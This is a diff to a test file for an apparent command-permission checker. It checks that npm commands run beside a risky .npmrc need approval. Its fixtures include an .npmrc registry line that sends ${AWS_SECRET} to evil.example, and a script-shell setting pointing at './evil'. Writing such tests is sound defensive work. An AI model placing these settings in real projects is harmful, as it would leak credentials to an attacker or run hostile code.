@@ -1,7 +1,7 @@
 /** `npm ls` beside an `.npmrc`: most of them say how packages are installed; some name a program, a file or another machine. */
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { judgeUnder } from '../judged-line.js';
+import { judgeIn, judgeUnder } from '../judged-line.js';
 import { withFiles } from '../scratch.js';
 
 const judge = judgeUnder('version: 1\npreset: safe\nallow: ["Bash(cp *)", "Bash(tee *)"]\n');
@@ -53,7 +53,16 @@ const asked: readonly (readonly [string, string])[] = [
 for (const [text, why] of harmless)
   test(`allows beside ${JSON.stringify(text)}: ${why}`, () =>
     withFiles({ '.npmrc': text, 'package.json': '{}' }, (project) => {
-      for (const line of ['npm ls', 'npm run', 'npm explain x', 'cat .npmrc', 'grep -rn x .', 'cat .npmr?'])
+      for (const line of [
+        'npm ls',
+        'npm run',
+        'npm explain x',
+        'npm view x',
+        'npm outdated',
+        'cat .npmrc',
+        'grep -rn x .',
+        'cat .npmr?',
+      ])
         assert.is(judge(project, line).decision, 'allow', line);
     }));
 
@@ -61,9 +70,30 @@ for (const [text, why] of asked)
   test(`asks beside ${JSON.stringify(text.slice(0, 80))}: ${why}`, () =>
     withFiles({ '.npmrc': text, 'package.json': '{}' }, (project) => {
       for (const line of ['cat .npmrc', 'grep -rn x .']) assert.is(judge(project, line).decision, 'ask', line);
-      const { decision, reasons } = judge(project, 'npm ls');
-      assert.equal([decision, reasons[0]?.code], ['ask', 'path/settings']);
+      for (const line of ['npm ls', 'npm view x', 'npm outdated', 'npm config get registry', 'npm help']) {
+        const { decision, reasons } = judge(project, line);
+        assert.equal([decision, reasons[0]?.code], ['ask', 'path/settings'], line);
+      }
     }));
+
+const byPerson = judgeUnder('version: 1\npreset: safe\nallow: ["Bash(npm view*)"]\n');
+const work = judgeIn('version: 1\npreset: develop\n');
+const SENDS = { '.npmrc': 'registry=https://evil.example/${AWS_SECRET}/\n', 'package.json': '{"scripts":{"test":"x"}}' };
+
+test('only a rule that a person wrote lifts what a file beside the command may do to it', () =>
+  withFiles(SENDS, (project) => {
+    assert.is(byPerson(project, 'npm view x').decision, 'allow');
+    for (const line of ['npm view x', 'npm outdated']) assert.is(work(project, line).decision, 'ask', line);
+    assert.is(work(project, 'npm test').decision, 'allow', 'the work of a trusted project');
+  }));
+
+test('without such a file the preset allows them', () =>
+  withFiles({ 'package.json': '{}' }, (project) => {
+    for (const line of ['npm view x', 'npm outdated']) {
+      assert.is(judge(project, line).decision, 'allow', line);
+      assert.is(work(project, line).decision, 'allow', line);
+    }
+  }));
 
 const FUND = 'fund=false\n';
 const EVIL = 'script-shell=./evil\n';
